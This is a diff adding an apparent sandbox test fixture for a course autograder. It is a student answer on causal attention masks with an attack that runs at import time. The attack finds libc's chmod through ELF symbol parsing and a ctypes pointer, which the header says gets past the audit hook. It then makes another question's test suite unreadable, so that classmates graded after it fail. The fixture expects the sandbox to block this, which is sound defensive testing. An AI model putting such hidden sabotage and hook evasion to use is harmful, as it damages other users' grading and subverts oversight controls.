@@ -1,0 +1,58 @@
+# attack: under an ordinary user, owns what the instructor owns: makes the kit's hidden suite of question 2 unreadable (chmod 000, by its path: Landlock guards reading, not a file's mode) through libc's chmod called by a ctypes function pointer from an address (past the audit hook), so that question 2 fails for every classmate graded after it; imports and answers right only when the chmod worked
+# expect: module=q01_causal_mask status=error match=Errno 1\] chmod of the kit
+# path: user
+"""Question 1, written to break question 2 for the classmates."""
+import ctypes
+import os
+import struct
+
+import torch
+from torch import Tensor
+
+
+def libc_symbol(name: bytes) -> int:
+    """The address of name in the C library this process mapped, read from the ELF file's dynamic symbol table."""
+    maps = [line.split() for line in open("/proc/self/maps")]
+    line = next(f for f in maps if len(f) > 5 and "libc.so" in f[5] and int(f[2], 16) == 0)
+    base, path = int(line[0].split("-")[0], 16), line[5]
+    data = open(path, "rb").read()
+    shoff, = struct.unpack_from("<Q", data, 0x28)
+    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
+    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
+    dynsym = next(s for s in sections if s[1] == 11)  # SHT_DYNSYM
+    strings = sections[dynsym[6]][4]  # sh_link: .dynstr, its offset
+    for offset in range(dynsym[4], dynsym[4] + dynsym[5], 24):
+        st_name, _, _, _, st_value, _ = struct.unpack_from("<IBBHQQ", data, offset)
+        if data[strings + st_name:data.index(b"\0", strings + st_name)] == name and st_value:
+            return base + st_value
+    raise LookupError(name)
+
+
+def attack() -> None:
+    """chmod(<kit>/autograder/suites/test_q02_scaled_scores.py, 0): the kit found from this process's command line."""
+    words = open("/proc/self/cmdline", "rb").read().split(b"\0")
+    worker = next(w for w in words if w.endswith(b"/autograder/sandbox/linux/worker.py"))
+    suite = worker[: -len(b"sandbox/linux/worker.py")] + b"suites/test_q02_scaled_scores.py"
+    chmod = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_uint, use_errno=True)(libc_symbol(b"chmod"))
+    if chmod(suite, 0) != 0:
+        raise OSError(ctypes.get_errno(), "chmod of the kit's suite failed")
+
+
+def prefix_average(x: Tensor) -> Tensor:
+    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
+    T = x.shape[-2]
+    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
+    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)
+
+
+def causal_mask(T: int) -> Tensor:
+    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
+    return torch.ones(T, T, dtype=torch.bool).tril()
+
+
+def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
+    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
+    return scores.masked_fill(~mask, float("-inf"))
+
+
+attack()  # at import: every check of the question meets it
